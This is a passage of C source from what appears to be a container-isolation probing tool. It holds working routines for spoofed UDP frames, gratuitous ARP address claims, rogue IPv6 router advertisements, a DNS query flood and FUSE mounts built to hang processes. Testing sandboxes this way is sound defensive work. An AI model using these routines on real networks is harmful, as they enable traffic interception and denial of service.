  sscanf(arguments[1], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
  for (int at = 0; at < 6; at++) frame[at] = to.sll_addr[at] = mac[at];
  memcpy(frame + 6, own, 6);
  frame[12] = 8;
  struct iphdr *ip = (void *)(frame + 14);
  struct udphdr *udp = (void *)(frame + 14 + sizeof *ip);
  int text = strlen(arguments[5]);
  memcpy(frame + 14 + sizeof *ip + sizeof *udp, arguments[5], text);
  udp->source = htons(4444), udp->dest = htons(number(arguments[4])), udp->len = htons(sizeof *udp + text);
  ip->version = 4, ip->ihl = 5, ip->ttl = 64, ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(sizeof *ip + sizeof *udp + text);
  inet_pton(AF_INET, arguments[2], &ip->saddr);
  inet_pton(AF_INET, arguments[3], &ip->daddr);
  ip->check = sum(ip, sizeof *ip);
  report("frame-udp", fd < 0 ? -1 : sendto(fd, frame, 14 + sizeof *ip + sizeof *udp + text, 0, (void *)&to, sizeof to));
  return 0;
}

/* arp-claim INTERFACE ADDRESS NUMBER: says to everybody, so often, that the address is here. */
static int arp_claim(char **arguments) {
  unsigned char frame[60] = {0}, own[6];
  struct sockaddr_ll to;
  struct in_addr address;
  int fd = packet_socket(arguments[0], own, &to), sent = 0;
  if (fd < 0) {
    report("arp-claim", -1);
    return 0;
  }
  inet_pton(AF_INET, arguments[1], &address);
  memset(frame, 0xff, 6), memset(to.sll_addr, 0xff, 6);
  memcpy(frame + 6, own, 6);
  static const unsigned char head[] = {8, 6, 0, 1, 8, 0, 6, 4, 0, 2};
  memcpy(frame + 12, head, sizeof head);
  memcpy(frame + 22, own, 6), memcpy(frame + 28, &address, 4);
  memset(frame + 32, 0xff, 6), memcpy(frame + 38, &address, 4);
  for (long at = 0; at < number(arguments[2]); at++)
    sent += sendto(fd, frame, sizeof frame, 0, (void *)&to, sizeof to) > 0;
  printf("arp-claim ok %d\n", sent);
  return 0;
}

/* router-advert INTERFACE: this container is everybody's IPv6 router, with a prefix. */
static int router_advert(char **arguments) {
  unsigned char frame[14 + 40 + 16 + 32] = {0}, own[6];
  struct sockaddr_ll to;
  int fd = packet_socket(arguments[0], own, &to), sent = 0;
  if (fd < 0) {
    report("router-advert", -1);
    return 0;
  }
  static const unsigned char all[] = {0x33, 0x33, 0, 0, 0, 1};
  memcpy(frame, all, 6), memcpy(to.sll_addr, all, 6), memcpy(frame + 6, own, 6);
  frame[12] = 0x86, frame[13] = 0xdd;
  unsigned char *ip = frame + 14, *icmp = ip + 40;
  ip[0] = 0x60, ip[5] = 48, ip[6] = 58, ip[7] = 255;
  ip[8] = 0xfe, ip[9] = 0x80, ip[23] = 0x99;
  ip[24] = 0xff, ip[25] = 2, ip[39] = 1;
  icmp[0] = 134, icmp[4] = 64, icmp[6] = 7;
  unsigned char *prefix = icmp + 16;
  prefix[0] = 3, prefix[1] = 4, prefix[2] = 64, prefix[3] = 0xc0;
  prefix[4] = prefix[5] = 1, prefix[8] = prefix[9] = 1;
  prefix[16] = 0x20, prefix[17] = 1, prefix[18] = 0xd, prefix[19] = 0xb8, prefix[20] = 0xba, prefix[21] = 0xd0;
  unsigned total = 48 + 58;
  for (int at = 8; at < 40 + 48; at += 2) total += ip[at] << 8 | ip[at + 1];
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  icmp[2] = ~total >> 8, icmp[3] = ~total;
  for (int at = 0; at < 3; at++) sent += sendto(fd, frame, sizeof frame, 0, (void *)&to, sizeof to) > 0;
  printf("router-advert ok %d\n", sent);
  return 0;
}

/* connect ADDRESS PORT...: whether somebody answers there. */
static int connect_to(char **arguments) {
  for (; arguments[0] && arguments[1]; arguments += 2) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(number(arguments[1]))};
    struct timeval patience = {.tv_sec = 1};
    char name[64];
    inet_pton(AF_INET, arguments[0], &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    snprintf(name, sizeof name, "connect %s:%s", arguments[0], arguments[1]);
    report(name, connect(fd, (void *)&to, sizeof to));
    close(fd);
  }
  return 0;
}

/* dns-raw SERVER HEX...: questions that no resolver library would send; how long each answer is. */
static int dns_raw(char **arguments) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
  struct timeval patience = {.tv_sec = 1};
  inet_pton(AF_INET, *arguments++, &to.sin_addr);
  for (; *arguments; arguments++) {
    static unsigned char question[65536], answer[65536];
    int length = strlen(*arguments) / 2, fd = socket(AF_INET, SOCK_DGRAM, 0);
    for (int at = 0; at < length; at++) sscanf(*arguments + 2 * at, "%2hhx", question + at);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    sendto(fd, question, length, 0, (void *)&to, sizeof to);
    long got = recv(fd, answer, sizeof answer, 0);
    if (got > 3) printf("answer %ld bytes, code %d\n", got, answer[3] & 15);
    else printf("answer %s\n", why());
    close(fd);
  }
  return 0;
}

/* dns-flood SERVER NUMBER */
static int dns_flood(char **arguments) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
  inet_pton(AF_INET, arguments[0], &to.sin_addr);
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  long sent = 0;
  for (long at = 0; at < number(arguments[1]); at++) {
    unsigned char question[64] = {at, at >> 8, 1, 0, 0, 1};
    int length = 12 + sprintf((char *)question + 12, "%cq%06ld%cexample", 7, at % 1000000, 7) + 1;
    question[length + 1] = question[length + 3] = 1;
    sent += sendto(fd, question, length + 4, MSG_DONTWAIT, (void *)&to, sizeof to) > 0;
  }
  printf("sent %ld\n", sent);
  return 0;
}

/* ---- a file system of one's own -------------------------------------------------------------- */

static void fuse_answer(int fd, uint64_t question, const void *body, size_t size) {
  static char answer[sizeof(struct fuse_out_header) + 4096];
  struct fuse_out_header head = {.len = sizeof head + size, .unique = question};
  memcpy(answer, &head, sizeof head);
  memcpy(answer + sizeof head, body, size);
  if (write(fd, answer, head.len) < 0) _exit(1);
}

static struct fuse_attr fuse_file(uint64_t number) {
  struct fuse_attr file = {.ino = number, .mode = number == 1 ? S_IFDIR | 0755 : S_IFREG | 0644, .nlink = 1};
  return file;
}

/* Whatever is looked for is a file that never ends, and has another number each time. */
static void fuse_endless(int fd, struct fuse_in_header *question) {
  static uint64_t number = 1;
  switch (question->opcode) {
  case FUSE_GETATTR: {
    struct fuse_attr_out out = {.attr = fuse_file(question->nodeid)};
    return fuse_answer(fd, question->unique, &out, sizeof out);
  }
  case FUSE_LOOKUP: {
    number++;
    struct fuse_entry_out out = {.nodeid = number, .attr = fuse_file(number)};
    return fuse_answer(fd, question->unique, &out, sizeof out);
  }
  case FUSE_OPEN:
  case FUSE_OPENDIR: {
    struct fuse_open_out out = {.open_flags = FOPEN_DIRECT_IO};
    return fuse_answer(fd, question->unique, &out, sizeof out);
  }
  case FUSE_READ: {
    struct fuse_read_in *read = (void *)(question + 1);
    static char text[4096];
    memset(text, 'x', sizeof text);
    return fuse_answer(fd, question->unique, text, read->size < sizeof text ? read->size : sizeof text);
  }
  default: {
    struct fuse_out_header none = {.len = sizeof none, .unique = question->unique, .error = -ENOSYS};
    if (write(fd, &none, sizeof none) < 0) _exit(1);
  }
  }
}

static void fuse_serve(int fd, int answers) {
  static char question[1 << 18];
  while (read(fd, question, sizeof question) > 0) {
    struct fuse_in_header *head = (void *)question;
    if (head->opcode == FUSE_INIT) {
      struct fuse_init_out out = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_readahead = 4096, .max_write = 4096};
      fuse_answer(fd, head->unique, &out, sizeof out);
    } else if (answers && head->opcode != FUSE_FORGET && head->opcode != FUSE_BATCH_FORGET) {
      fuse_endless(fd, head);
    }
  }
  _exit(0);
}

/* fuse KIND FOLDER: mounts a file system of this program's own there, and goes on behind. `hang`
 * takes every question and answers none; `stuck` does, and has a process besides that has asked
 * itself, which no signal ends; `endless` answers as above. */
static int fuse(char **arguments) {
  char options[128];
  int fd = open("/dev/fuse", O_RDWR);
  mkdir(arguments[1], 0755);
  snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd);
  report("fuse-open", fd);
  if (mount("prober", arguments[1], "fuse", MS_NOSUID | MS_NODEV, options) < 0) {
    report("fuse-mount", -1);
    return 0;
  }
  report("fuse-mount", 0);
  int server = fork();
  if (server) {
    printf("fuse-server ok %d\n", server);
    return 0;
  }
  setsid();
  int null = open("/proc/self/cwd", O_PATH);
  for (int stdio = 0; stdio < 3; stdio++) dup2(null, stdio);
  if (!strcmp(arguments[0], "stuck") && !fork()) {
    struct stat stat;
    fstatat(AT_FDCWD, arguments[1], &stat, 0);
    _exit(0);
  }
  fuse_serve(fd, !strcmp(arguments[0], "endless"));
  return 0;
}

/* ---- ------------------------------------------------------------------------------------------ */

static const struct { const char *name; int (*run)(char **); } commands[] = {
  {"cwd", cwd}, {"fds", fds}, {"caps", caps}, {"ptrace-new", ptrace_new}, {"watch-exe", watch_exe},
  {"chmod-stdio", chmod_stdio}, {"syscall", native}, {"x32", x32}, {"int80", int80}, {"socket", open_socket},
  {"sockets", sockets}, {"calls", calls}, {"tiocsti", tiocsti}, {"write-walk", write_walk},
  {"mknod-open", mknod_open}, {"open", open_paths}, {"open-by-handle", open_by_handle}, {"exchange", exchange},
  {"hold", hold}, {"hold-names", hold_names}, {"flows", flows}, {"ipc-make", ipc_make}, {"ipc-look", ipc_look}, {"keyring", keyring},
  {"kill-all", kill_all}, {"raw-udp", raw_udp}, {"frame-udp", frame_udp}, {"arp-claim", arp_claim},
  {"router-advert", router_advert}, {"connect", connect_to}, {"dns-raw", dns_raw}, {"dns-flood", dns_flood}, {"fuse", fuse},
};

int main(int count, char **arguments) {
  static char *none[8];
  /* Lines come out as they are written, also into a pipe. */
  setvbuf(stdout, NULL, _IOLBF, 0);
  for (size_t at = 0; count > 1 && at < sizeof commands / sizeof *commands; at++)
    if (!strcmp(arguments[1], commands[at].name)) {
      char *words[64] = {0};
      for (int word = 2; word < count && word < 60; word++) words[word - 2] = arguments[word];
      int code = commands[at].run(count > 2 ? words : none);
      printf("done %s\n", arguments[1]);
      return code;
    }
  fprintf(stderr, "prober: no such command\n");
  return 64;
}
